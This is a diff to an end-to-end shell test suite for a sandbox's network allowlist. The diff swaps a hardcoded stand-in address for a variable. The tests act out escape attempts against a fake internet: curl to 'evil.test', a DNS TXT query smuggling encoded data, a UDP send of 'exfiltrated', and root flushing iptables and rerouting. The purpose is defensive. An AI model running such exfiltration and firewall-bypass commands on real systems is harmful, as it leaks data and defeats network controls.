@@ -1,6 +1,6 @@
 #!/usr/bin/env bats
 # A sandbox's network, from inside, against a stand-in internet (fake_internet_up: a network
-# namespace of the file's own at 198.51.100.2 with web servers, a UDP sink and a DNS server for
+# namespace of the file's own at $FI_OUTSIDE with web servers, a UDP sink and a DNS server for
 # fake names). Allowed names work; as root inside, every other way out fails fast; policy
 # changes count without a restart; ss-net gone means no network until ss starts it again.
 # The backend is SS_E2E_BACKEND (docker when unset); CTest runs it on every backend. LXD, Docker
@@ -106,7 +106,7 @@ EOF
   else
     run in_sandbox env -u http_proxy curl -sS -m 10 http://allowed.test/
     assert_output "outside says hi"
-    run in_sandbox env -u http_proxy curl -s -m 10 --resolve evil.test:80:198.51.100.2 http://evil.test/
+    run in_sandbox env -u http_proxy curl -s -m 10 --resolve "evil.test:80:$FI_OUTSIDE" http://evil.test/
     assert_output "ss-net: evil.test:80 is not in the allowlist of sandbox '$SANDBOX'; to allow it: ss net allow evil.test"
   fi
   # Through the proxy every login is pointed at: refused with the reason.
@@ -195,11 +195,11 @@ EOF
     # which must refuse them itself.
     as_root ip route replace default via 10.0.2.2
   fi
-  run as_root curl -sS -m 10 http://198.51.100.2:8080/
+  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
   assert_failure 7
   # A TXT lookup carrying data, sent straight to an outside resolver: answered NXDOMAIN by
   # ss-net's resolver (Docker), or dropped (QEMU carries no UDP); never seen outside.
-  run dns_query 198.51.100.2 c2VjcmV0.evil.test 16
+  run dns_query "$FI_OUTSIDE" c2VjcmV0.evil.test 16
   if on_qemu; then assert_output "no answer"; else assert_output "rcode 3"; fi
   # ss-net's own resolver: the same answer for a name that is not allowed, over UDP and TCP.
   if on_qemu; then
@@ -220,7 +220,7 @@ EOF
     run as_root curl -sS -m 10 http://10.0.2.100:8080/
     assert_failure 7
     # The proxy refuses addresses and the host's loopback unless a rule names them.
-    run as_root curl -s -m 10 --proxy http://10.0.2.100:3128 http://198.51.100.2:8080/
+    run as_root curl -s -m 10 --proxy http://10.0.2.100:3128 "http://$FI_OUTSIDE:8080/"
     assert_output --partial "is not in the allowlist"
     run as_root curl -s -m 10 --proxy http://10.0.2.100:3128 http://127.0.0.1:22/
     assert_output --partial "ss-net:"
@@ -228,24 +228,24 @@ EOF
     run as_root curl -sS -m 10 -g "http://[64:ff9b::c633:6402]:8080/"
     assert_failure
   fi
-  run as_root ping -c 1 -W 2 198.51.100.2
+  run as_root ping -c 1 -W 2 "$FI_OUTSIDE"
   assert_failure
-  as_root python3 - <<'EOF'
-import socket
+  as_root python3 - "$FI_OUTSIDE" <<'EOF'
+import socket, sys
 u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 for _ in range(3):
     try:
-        u.sendto(b"exfiltrated", ("198.51.100.2", 9999))
+        u.sendto(b"exfiltrated", (sys.argv[1], 9999))
     except OSError:
         pass
 EOF
   # Root drops the sandbox's own firewall and changes its routes: no difference. (One word for
   # the remote shell, which would run the rest of the line as the user.)
-  as_root "sh -c 'iptables -P OUTPUT ACCEPT; iptables -F; ip route replace 198.51.100.0/24 dev eth0'" || true
-  run as_root curl -sS -m 10 http://198.51.100.2:8080/
+  as_root "sh -c 'iptables -P OUTPUT ACCEPT; iptables -F; ip route replace $FI_NET.0/24 dev eth0'" || true
+  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
   assert_failure
   # The route off the gateway would keep the next tests' connections from reaching the fence.
-  as_root ip route del 198.51.100.0/24 dev eth0 2>/dev/null || true
+  as_root ip route del "$FI_NET.0/24" dev eth0 2>/dev/null || true
   if on_qemu; then
     # Root points resolv.conf at QEMU's own resolver: that only loses DNS.
     as_root "sh -c 'echo nameserver 10.0.2.3 >/etc/resolv.conf'"
@@ -262,11 +262,11 @@ EOF
   fi
   # Every way around the fence at once, counted.
   if on_qemu; then
-    run as_root python3 - 198.51.100.2 10.0.2.2 10.0.2.100:3128 "$(cat "$FI_DIR/host_port")" \
+    run as_root python3 - "$FI_OUTSIDE" 10.0.2.2 10.0.2.100:3128 "$(cat "$FI_DIR/host_port")" \
       <"$SS_SOURCE_DIR/tests/e2e/bypass.py"
   else
     gateway=$(in_sandbox "ip route show default | awk '{print \$3}'")
-    run as_root python3 - 198.51.100.2 "$gateway" "$gateway:3128" "$(cat "$FI_DIR/host_port")" \
+    run as_root python3 - "$FI_OUTSIDE" "$gateway" "$gateway:3128" "$(cat "$FI_DIR/host_port")" \
       <"$SS_SOURCE_DIR/tests/e2e/bypass.py"
   fi
   echo "# bypass attempts on $SS_E2E_BACKEND: ${lines[-1]}" >&3
@@ -307,7 +307,7 @@ EOF
   echo "$output" | jq -e '.network.fenced == true and .network.proxy_pid == null and .network.mode == "allowlist"'
   run ss status --sandbox "$SANDBOX"
   assert_line --partial "ss-net is not running, so nothing gets out until the next command starts it"
-  run in_sandbox curl -sS -m 10 --resolve allowed.test:80:198.51.100.2 http://allowed.test/
+  run in_sandbox curl -sS -m 10 --resolve "allowed.test:80:$FI_OUTSIDE" http://allowed.test/
   assert_failure
   run in_sandbox curl -sS -m 10 --proxy "$proxy" http://allowed.test/
   assert_failure
@@ -371,7 +371,7 @@ time.sleep(600)' "$old_port" >"$W/holder" </dev/null 3>&- &
     run in_sandbox curl -sS -m 10 http://allowed.test/
   fi
   assert_output "outside says hi"
-  run as_root curl -sS -m 10 http://198.51.100.2:8080/
+  run as_root curl -sS -m 10 "http://$FI_OUTSIDE:8080/"
   assert_failure 7
 }
 
